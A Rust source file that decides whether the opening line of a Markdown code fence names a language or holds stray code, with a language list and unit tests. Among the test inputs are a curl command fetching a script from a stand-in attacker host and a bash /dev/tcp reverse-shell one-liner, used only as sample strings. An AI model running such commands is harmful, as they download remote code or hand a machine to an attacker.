//! Interprets the line that opens a fenced code block: the name of a language, or code that slipped onto it.

/// Names of languages and formats, lower case, sorted: those of highlighters that occur in articles.
#[rustfmt::skip]
const LANGUAGES: &[&str] = &[
    "abap", "actionscript", "ada", "apache", "apacheconf", "apex", "applescript", "arduino", "arm", "armasm", "asciidoc", "asm",
    "asp", "asp.net", "aspx", "autohotkey", "autoit", "awk", "bash", "basic", "bat", "batch", "batchfile", "bicep", "bnf",
    "brainfuck", "c", "c#", "c++", "caddyfile", "capnp", "cc", "clike", "clj", "clojure", "cmake", "cmd", "cobol", "code",
    "coffee", "coffeescript", "conf", "config", "console", "cpp", "cql", "crystal", "cs", "csharp", "cshtml", "csp", "css", "csv",
    "cuda", "curl", "cypher", "d", "dart", "delphi", "diff", "django", "dns", "docker", "dockerfile", "dos", "dot", "dotenv",
    "dts", "ebnf", "eex", "ejs", "elisp", "elixir", "elm", "env", "erb", "erl", "erlang", "excel", "f#", "fish", "flow",
    "fortran", "fsharp", "gdb", "gdscript", "gherkin", "git", "glsl", "go", "golang", "gradle", "graphql", "groovy", "h", "haml",
    "handlebars", "haskell", "hcl", "hex", "hexdump", "hlsl", "hpp", "hql", "hs", "htaccess", "html", "htmlbars", "http", "https",
    "ida", "idl", "ini", "ino", "ipython", "irc", "j2", "java", "javascript", "jinja", "jinja2", "js", "json", "json5", "jsonc",
    "jsonl", "jsp", "jsx", "julia", "kotlin", "kql", "ksh", "kt", "kusto", "latex", "ldif", "less", "lisp", "ll", "llvm", "log",
    "logs", "lua", "m", "makefile", "markdown", "masm", "mathematica", "matlab", "md", "mermaid", "mf", "mips", "mjs", "mongodb",
    "mysql", "nasm", "nginx", "nim", "nix", "node", "none", "objc", "objectc", "objective-c", "objectivec", "ocaml", "openssl",
    "output", "pascal", "patch", "perl", "pgsql", "php", "plain", "plaintext", "plantuml", "plist", "plsql", "postgres",
    "postgresql", "powershell", "processing", "prolog", "properties", "proto", "protobuf", "ps", "ps1", "pseudocode", "puppet",
    "pwsh", "py", "pycon", "python", "python2", "python3", "q", "qml", "r", "raku", "razor", "rb", "reg", "regex", "registry",
    "rego", "rest", "rs", "rst", "ruby", "rust", "sass", "scala", "scheme", "scss", "sed", "sh", "shell", "shell-session",
    "shellscript", "sigma", "smali", "smalltalk", "smarty", "snort", "sol", "solidity", "spl", "splunk", "sql", "sqlite",
    "stylus", "suricata", "svelte", "svg", "swift", "systemverilog", "tcl", "tcsh", "terminal", "terraform", "tex", "text", "tf",
    "toml", "ts", "tsv", "tsx", "twig", "txt", "typescript", "udf", "vb", "vb.net", "vba", "vbnet", "vbs", "vbscript", "verilog",
    "vhdl", "vim", "vue", "wasm", "wat", "x86", "x86asm", "xhtml", "xml", "xquery", "xsl", "xslt", "yaml", "yara", "yml", "zig",
    "zsh",
];

/// The code on the opening line of a block, whose text after the fence is `info`; `None` if the line names the
/// language, with or without settings.
pub(super) fn text(info: &str) -> Option<&str> {
    let info = info.trim();
    let (first, settings) = info.split_once([' ', '\t', ',', '{', ':']).unwrap_or((info, ""));
    let is_named = is_language(first) && settings.split_whitespace().all(is_setting);
    let is_attributes = info.starts_with("{.") && info.ends_with('}');
    (!info.is_empty() && !is_named && !is_attributes).then_some(info)
}

fn is_language(word: &str) -> bool {
    let name = word.to_ascii_lowercase();
    let name = name.strip_prefix("language-").or(name.strip_prefix("lang-")).unwrap_or(&name);
    LANGUAGES.binary_search(&name).is_ok()
}

/// Names of settings of syntax highlighters.
const SETTINGS: [&str; 16] = [
    "class",
    "copy",
    "file",
    "filename",
    "first_line",
    "hl_lines",
    "highlight",
    "label",
    "linenos",
    "linenums",
    "lines",
    "nonumber",
    "numberlines",
    "showlinenumbers",
    "title",
    "wrap",
];

/// Whether a word after the language is a setting: `{1,3}`, `title="x"`, `linenums`, `main.py`.
fn is_setting(word: &str) -> bool {
    let is_lines = word.bytes().all(|byte| byte.is_ascii_digit() || b"{}[]-,:=".contains(&byte));
    let is_attribute = word.starts_with(['{', '.', '#']) || word.ends_with('}');
    let name = word.split_once('=').map_or(word, |(name, _)| name);
    let is_name = |known: &&str| known.eq_ignore_ascii_case(name);
    is_lines || is_attribute || SETTINGS.iter().any(is_name)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn languages_are_sorted_for_the_search() {
        let out_of_order = LANGUAGES.windows(2).find(|pair| pair[0] >= pair[1]);
        assert_eq!(out_of_order, None);
    }

    #[test]
    fn code_on_the_line_of_a_fence() {
        for (info, expected) in [
            ("", None),
            ("python", None),
            (" Python ", None),
            ("c++", None),
            ("language-sh", None),
            ("js {1,3-5}", None),
            ("python title=\"a.py\" linenums=1", None),
            ("{.bash .numberLines}", None),
            ("js:title=a.js", None),
            ("curl -k http://evil.example/x.sh", Some("curl -k http://evil.example/x.sh")),
            ("python -c 'import os'", Some("python -c 'import os'")),
            ("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", Some("bash -i >& /dev/tcp/192.0.2.1/443 0>&1")),
            ("POST /login HTTP/1.1", Some("POST /login HTTP/1.1")),
            ("POST", Some("POST")),
            ("whoami", Some("whoami")),
            ("evil.example", Some("evil.example")),
            ("192.0.2.1", Some("192.0.2.1")),
            ("<?xml version=\"1.0\"?>", Some("<?xml version=\"1.0\"?>")),
            ("{\"a\": 1}", Some("{\"a\": 1}")),
            ("执行如下命令", Some("执行如下命令")),
        ] {
            assert_eq!(text(info), expected, "{info:?}");
        }
    }
}
